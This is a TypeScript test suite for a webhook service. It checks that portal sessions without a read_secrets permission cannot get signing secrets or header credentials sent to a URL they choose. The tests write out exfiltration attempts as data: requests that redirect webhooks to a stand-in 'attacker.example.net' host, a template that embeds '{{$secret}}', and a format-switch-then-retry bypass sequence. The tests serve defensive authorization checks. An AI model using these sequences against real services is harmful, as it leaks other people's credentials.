import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { type ApiResponse, eventually, startTestServer, type TestServer } from '../helpers/hooklane.ts';
import { startReceiver } from '../helpers/receiver.ts';

/**
 * A portal session without `read_secrets` is shown neither signing secrets nor static header
 * values; editing a webhook must not hand them over either, by making its deliveries carry the
 * secret (google_sheets, `{{$secret}}`) or by sending its static headers to a URL it chose.
 */
describe('a portal session without read_secrets cannot make a webhook send its secrets to it', () => {
  let server: TestServer;
  let acc: string;
  let admin: string;
  let token: string;
  let withSecrets: string;
  const RECEIVER = 'https://receiver.example.com/hooks';
  const ATTACKER = 'https://attacker.example.net/collect';

  const call = (key: string, method: string, path: string, body?: unknown): Promise<ApiResponse> =>
    server.api(method, `/v1/accounts/${acc}${path}`, { key, ...(body === undefined ? {} : { body }) });
  const create = async (body: Record<string, unknown>) => {
    const created = await call(admin, 'POST', '/webhooks', {
      name: 'crm',
      url: RECEIVER,
      events: ['*'],
      ...body,
    });
    assert.equal(created.status, 201, JSON.stringify(created.body));
    return created.body as { id: string; secret: string };
  };
  const refused = (response: ApiResponse) => {
    assert.equal(response.status, 403, JSON.stringify(response.body));
    assert.equal(response.body.error.code, 'forbidden');
    assert.match(response.body.error.message, /read_secrets/);
  };

  before(async () => {
    server = await startTestServer();
    ({ id: acc, adminKey: admin } = await server.account());
    const session = async (capabilities: string[]) => {
      const created = await call(admin, 'POST', '/portal-sessions', { capabilities });
      assert.equal(created.status, 201, JSON.stringify(created.body));
      return created.body.token as string;
    };
    token = await session(['read', 'manage_webhooks']);
    withSecrets = await session(['read', 'manage_webhooks', 'read_secrets']);
  });
  after(async () => {
    await server?.close();
  });

  test('switching to google_sheets or to a template with {{$secret}} is refused, and changes nothing', async () => {
    const hook = await create({});
    refused(await call(token, 'PATCH', `/webhooks/${hook.id}`, { format: 'google_sheets', url: ATTACKER }));
    refused(await call(token, 'PATCH', `/webhooks/${hook.id}`, { format: 'google_sheets' }));
    refused(
      await call(token, 'PATCH', `/webhooks/${hook.id}`, {
        format: 'template',
        template: { body: { leaked: 'token {{$secret}}' } },
      }),
    );
    const now = (await call(admin, 'GET', `/webhooks/${hook.id}`)).body;
    assert.equal(now.url, RECEIVER);
    assert.equal(now.format, 'appcues');
    // A template without the secret is the session's to write.
    const templated = await call(token, 'PATCH', `/webhooks/${hook.id}`, {
      format: 'template',
      template: { body: { who: '{{user_id}}' } },
    });
    assert.equal(templated.status, 200, JSON.stringify(templated.body));
  });

  test('moving a webhook that carries its secret or static header values to another URL is refused', async () => {
    const sheets = await create({ format: 'google_sheets' });
    refused(await call(token, 'PATCH', `/webhooks/${sheets.id}`, { url: ATTACKER }));
    const headed = await create({ headers: { 'X-Api-Key': 'receiver-credential' } });
    refused(await call(token, 'PATCH', `/webhooks/${headed.id}`, { url: ATTACKER }));
    assert.equal((await call(admin, 'GET', `/webhooks/${headed.id}`)).body.url, RECEIVER);
    // Replacing the headers with its own values in the same edit sends none of the old ones.
    const replaced = await call(token, 'PATCH', `/webhooks/${headed.id}`, { url: ATTACKER, headers: {} });
    assert.equal(replaced.status, 200, JSON.stringify(replaced.body));
    // A webhook that carries neither moves as before; renaming one that carries them is fine.
    const plain = await create({});
    assert.equal((await call(token, 'PATCH', `/webhooks/${plain.id}`, { url: ATTACKER })).status, 200);
    assert.equal((await call(token, 'PATCH', `/webhooks/${sheets.id}`, { name: 'renamed' })).status, 200);
  });

  test('creating a webhook that sends a generated secret it is not shown is refused; one it gives is fine', async () => {
    const body = { name: 'sheet', url: ATTACKER, events: ['*'], format: 'google_sheets' };
    refused(await call(token, 'POST', '/webhooks', body));
    const given = await call(token, 'POST', '/webhooks', {
      ...body,
      secret: 'whsec_chosen_by_the_session_0001',
    });
    assert.equal(given.status, 201, JSON.stringify(given.body));
  });

  test('with read_secrets, and with an admin key, all of it is allowed', async () => {
    const hook = await create({ headers: { 'X-Api-Key': 'receiver-credential' } });
    const moved = await call(withSecrets, 'PATCH', `/webhooks/${hook.id}`, {
      url: ATTACKER,
      format: 'google_sheets',
    });
    assert.equal(moved.status, 200, JSON.stringify(moved.body));
    const back = await call(admin, 'PATCH', `/webhooks/${hook.id}`, {
      url: RECEIVER,
      format: 'template',
      template: { body: { t: '{{$secret}}' } },
    });
    assert.equal(back.status, 200, JSON.stringify(back.body));
    const made = await call(withSecrets, 'POST', '/webhooks', {
      name: 's',
      url: ATTACKER,
      events: ['*'],
      format: 'google_sheets',
    });
    assert.equal(made.status, 201, JSON.stringify(made.body));
    assert.match(made.body.secret, /^whsec_/);
  });
});

test("a delivery made while the webhook sent its secret does not send it once the webhook's format no longer does", async () => {
  // The way round the checks above: switch a Sheets webhook to a format without the secret (allowed),
  // move it (allowed), then retry one of its Sheets deliveries, whose format is fixed.
  const server = await startTestServer();
  const receiver = await startReceiver();
  try {
    const { id: acc, adminKey: admin } = await server.account();
    const call = (key: string, method: string, path: string, body?: unknown) =>
      server.api(method, `/v1/accounts/${acc}${path}`, { key, ...(body === undefined ? {} : { body }) });
    const sheets = await call(admin, 'POST', '/webhooks', {
      name: 'sheet',
      url: `${receiver.url}/sheets`,
      events: ['*'],
      format: 'google_sheets',
    });
    assert.equal(sheets.status, 201, JSON.stringify(sheets.body));
    const secret = sheets.body.secret as string;
    const sent = await call(admin, 'POST', '/events', { name: 'signup', user_id: 'u1' });
    assert.equal(sent.status, 202, JSON.stringify(sent.body));
    const [first] = await receiver.waitFor(1);
    assert.equal(JSON.parse(first!.body).token, secret);
    const [delivery] = (await call(admin, 'GET', '/deliveries')).body.data;

    const token = (
      await call(admin, 'POST', '/portal-sessions', { capabilities: ['read', 'manage_webhooks', 'retry'] })
    ).body.token as string;
    assert.equal(
      (await call(token, 'PATCH', `/webhooks/${sheets.body.id}`, { format: 'appcues' })).status,
      200,
    );
    const moved = await call(token, 'PATCH', `/webhooks/${sheets.body.id}`, {
      url: `${receiver.url}/collect`,
    });
    assert.equal(moved.status, 200, JSON.stringify(moved.body));
    const retried = await call(token, 'POST', `/deliveries/${delivery.id}/retry`);
    assert.equal(retried.status, 202, JSON.stringify(retried.body));
    const settled = await eventually(async () => {
      const detail = (await call(admin, 'GET', `/deliveries/${delivery.id}`)).body;
      return detail.attempt_count >= 2 ? detail : undefined;
    });
    assert.equal(settled.attempt_count, 2);
    assert.ok(
      receiver.requests.every((request) => request.path !== '/collect' || !request.body.includes(secret)),
      'the secret reached the new URL',
    );
  } finally {
    await receiver.close();
    await server.close();
  }
});
